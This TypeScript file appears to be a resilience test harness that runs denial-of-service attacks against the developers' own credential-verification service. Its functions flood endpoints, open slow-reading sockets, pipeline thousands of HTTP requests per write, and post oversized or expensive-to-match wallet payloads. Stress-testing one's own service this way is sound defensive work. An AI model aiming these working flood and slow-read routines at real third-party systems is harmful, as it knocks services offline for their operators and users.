import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Issuer } from '@vidimus/sandbox'
import { bearer, type HttpResult, type HttpCall, type HttpClient } from './http-client.ts'
import { prepareResponse } from './prepare-response.ts'

/** What an attacker has: one address, and one tenant with its own issuer and a member. */
type Attacker = {
  /** Where the service is. */
  host: string
  port: number
  client: HttpClient
  key: string
  cookie: string
  /** An issuer that the attacker's tenant trusts; its status lists are on a host that never responds. */
  issuer: Issuer
  /** Trusted in the test environment, with status lists that are available. */
  sandbox_issuer: Issuer
  over: () => boolean
  count: (what: string | number) => void
}

/** Prepares an attack and returns the function that runs it. */
type Attack = (attacker: Attacker) => Promise<() => Promise<unknown>>

export const attackNames = [
  'matching',
  'forms',
  'static',
  'status',
  'metadata',
  'devices',
  'page',
  'figures',
  'list',
  'garbage',
  'search',
  'csv',
  'creations',
  // Last: afterwards the address may open no connection for a while.
  'readyz',
] as const
export type AttackName = (typeof attackNames)[number]

export const attacks: Record<AttackName, Attack> = {
  matching,
  forms: async (attacker) => {
    const body = Array.from({ length: 250_000 }, (_, index) => `${index.toString(36)}=`).join('&')
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    return () => flood(attacker, 8, [{ method: 'POST', path: '/wallet/response/nobody', headers, body }])
  },
  readyz: async (attacker) => () => pipeline(attacker, { path: '/readyz', connections: 4, requests: 20_000 }),
  static: async (attacker) => () =>
    Promise.all([
      readNothing(attacker, { path: '/docs/scalar.js', connections: 400 }),
      flood(attacker, 4, [{ path: '/docs/scalar.js' }]),
    ]),
  status: silentStatusLists,
  metadata: largeMetadata,
  devices: async (attacker) => () =>
    flood(attacker, 16, [
      { path: '/dashboard/api/test/overview', headers: { cookie: attacker.cookie } },
      { path: '/v1/devices', headers: bearer(attacker.key) },
      { path: '/dashboard/api/test/devices', headers: { cookie: attacker.cookie } },
    ]),
  page: async (attacker) => {
    const ids = await createVerifications(attacker, 20)
    return () =>
      flood(
        attacker,
        16,
        ids.map((id) => ({ path: `/verify/${id}` })),
      )
  },
  figures: async (attacker) => () => readDashboard(attacker, 16, 'figures'),
  search: async (attacker) => () => readDashboard(attacker, 16, 'search?text=zzzzzz'),
  csv: async (attacker) => () => readDashboard(attacker, 16, 'verifications.csv'),
  list: async (attacker) => {
    await createLargeVerifications(attacker)
    return () => flood(attacker, 8, [{ path: '/v1/verifications?limit=100', headers: bearer(attacker.key) }])
  },
  garbage: async (attacker) => {
    const ids = await createVerifications(attacker, 20)
    const body = `response=eyJhbGciOiJFQ0RILUVTIn0..${Buffer.alloc(1_400_000, 7).toString('base64url')}`
    const headers = { 'content-type': 'application/x-www-form-urlencoded' }
    return () =>
      flood(
        attacker,
        4,
        ids.map((id) => ({ method: 'POST', path: `/wallet/response/${id}`, headers, body })),
      )
  },
  creations: async (attacker) => () => flood(attacker, 250, [createCall(attacker, {})]),
}

function readDashboard(attacker: Attacker, concurrency: number, path: string) {
  const headers = { cookie: attacker.cookie, 'sec-fetch-site': 'same-origin' }
  return flood(attacker, concurrency, [{ path: `/dashboard/api/test/${path}`, headers }])
}

function createCall({ key }: Attacker, body: object): HttpCall {
  return {
    method: 'POST',
    path: '/v1/verifications',
    headers: bearer(key),
    body: JSON.stringify({ template: 'age_over_18', ...body }),
  }
}

async function createVerifications(attacker: Attacker, count: number): Promise<string[]> {
  const responses = await Promise.all(
    Array.from({ length: count }, () => attacker.client.call(createCall(attacker, { ttl_seconds: 3600 }))),
  )
  return responses.map(({ text }) => String(JSON.parse(text).id))
}

/** Wallet responses that are as slow to match as the limits on queries allow, posted repeatedly until they are final. */
async function matching(attacker: Attacker) {
  const heavy = (bounded: boolean) => ({
    format: 'dc+sd-jwt',
    multiple: true,
    meta: { vct_values: ['urn:eudi:pid:1'] },
    claims: [
      {
        id: 'a',
        path: ['family_name'],
        values: Array.from({ length: bounded ? 500 : 17_000 }, (_, value) => value),
      },
    ],
    claim_sets: Array.from({ length: bounded ? 50 : 15_000 }, () => ['a']),
  })
  const unbounded = { query: { credentials: [{ id: 'c', ...heavy(false) }] }, ttl_seconds: 3600 }
  const within = {
    query: { credentials: ['c', 'd'].map((id) => ({ id, ...heavy(true) })) },
    ttl_seconds: 3600,
  }
  const prepare = async (creation: typeof unbounded, copies: number) =>
    prepareResponse({
      ...attacker,
      issuer: attacker.sandbox_issuer,
      creation,
      alterations: {
        query: () => ({
          credentials: creation.query.credentials.map(({ id, meta }) => ({
            id,
            format: 'dc+sd-jwt',
            meta,
            claims: [{ path: ['family_name'] }],
          })),
        }),
        vp_token: (token) =>
          Object.fromEntries(Object.entries(token).map(([id, list]) => [id, repeat(list, copies)])),
      },
    })
  const first = await prepare(unbounded, 50)
  const next = () => (first.post === undefined ? prepare(within, 10) : prepare(unbounded, 50))
  const ready = (await Promise.all(Array.from({ length: 20 }, next))).flatMap(({ post }) => post ?? [])
  return () =>
    Promise.all(
      Array.from({ length: 30 }, (_, worker) =>
        repeatUntilOver(attacker, async () => {
          const turn = (worker + ready.length) % ready.length
          const response = await ready[turn]?.()
          if (response?.status === 200 || response?.status === 409)
            ready[turn] = (await next()).post ?? (() => noResponse)
          return response
        }),
      ),
    )
}

const noResponse: Promise<HttpResult> = Promise.resolve({ status: 0, headers: {}, text: '', took_ms: 0 })

function repeat<Element>(list: Element, copies: number) {
  return Array.isArray(list) ? Array.from({ length: copies }, () => list[0]) : list
}

/** Each wallet response names a different status list, on a host that accepts connections and never responds. */
async function silentStatusLists(attacker: Attacker) {
  let lists = 0
  const next = () =>
    prepareResponse({
      ...attacker,
      issuer: { ...attacker.issuer, status_uri: `${attacker.issuer.status_uri}/${(lists += 1)}` },
      creation: { template: 'age_over_18' },
    })
  const ready = await Promise.all(Array.from({ length: 62 }, next))
  return () =>
    Promise.all(
      Array.from({ length: 62 }, () =>
        repeatUntilOver(attacker, async () => (ready.pop() ?? (await next())).post?.()),
      ),
    )
}

/** Verifications with as much metadata as the service accepts, and clients that do not read the largest page of them. */
async function largeMetadata(attacker: Attacker) {
  const largeCreation = await createLargeVerifications(attacker)
  return () =>
    Promise.all([
      flood(attacker, 4, [largeCreation]),
      readNothing(attacker, {
        path: '/v1/verifications?limit=100',
        connections: 120,
        headers: `Authorization: Bearer ${attacker.key}\r\n`,
      }),
    ])
}

/** A page of the largest verifications that the service accepts. Returns the creation of one. */
async function createLargeVerifications(attacker: Attacker): Promise<HttpCall> {
  let large = createCall(attacker, {})
  for (const bytes of [500, 4000, 8000, 16_000, 60_000, 250_000]) {
    const larger = createCall(attacker, { metadata: { a: 'x'.repeat(bytes) } })
    if ((await attacker.client.call(larger)).status === 201) large = larger
  }
  for (let count = 0; count < 100; count += 1) await attacker.client.call(large)
  return large
}

/** Sends requests without pause, with a fixed number in flight. */
function flood(attacker: Attacker, concurrency: number, calls: HttpCall[]) {
  return Promise.all(
    Array.from({ length: concurrency }, (_, worker) => {
      let turn = worker
      return repeatUntilOver(attacker, () =>
        attacker.client.call(calls[(turn += 1) % calls.length] ?? { path: '/' }),
      )
    }),
  )
}

async function repeatUntilOver({ over, count }: Attacker, act: () => Promise<HttpResult | undefined>) {
  while (!over()) {
    const response = await act()
    count(response?.status ?? 'not prepared')
    // Avoids a busy loop of the attacker when it is refused.
    if (response === undefined || [0, 429, 503].includes(response.status)) await sleep(20)
  }
}

type SlowReaders = { path: string; connections: number; headers?: string }

/** Sends requests and never reads the responses; reconnects when a connection is closed. */
function readNothing(
  { host, port, over, count }: Attacker,
  { path, connections, headers = '' }: SlowReaders,
) {
  return Promise.all(
    Array.from({ length: connections }, async (_, index) => {
      await sleep(index * 5)
      while (!over()) {
        const socket = connect({ host, port })
        const closed = new Promise((resolve) => socket.on('close', resolve))
        socket.on('error', () => {})
        socket.on('connect', () => {
          socket.pause()
          socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}\r\n`)
          count('opened')
        })
        while (!over() && !socket.destroyed) await Promise.race([closed, sleep(250)])
        socket.destroy()
        await sleep(50)
      }
    }),
  )
}

/** Pipelines thousands of requests in one write, again whenever the buffer has drained. */
function pipeline(
  { host, port, over, count }: Attacker,
  { path, connections, requests }: { path: string; connections: number; requests: number },
) {
  const text = `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(requests)
  return Promise.all(
    Array.from({ length: connections }, async () => {
      while (!over()) {
        const socket = connect({ host, port })
        const closed = new Promise((resolve) => socket.on('close', resolve))
        socket.on('error', () => {})
        socket.on('data', () => count('chunks read'))
        const send = () => {
          while (!over() && socket.write(text));
        }
        socket.on('connect', send).on('drain', send)
        while (!over() && !socket.destroyed) await Promise.race([closed, sleep(250)])
        socket.destroy()
        await sleep(50)
      }
    }),
  )
}
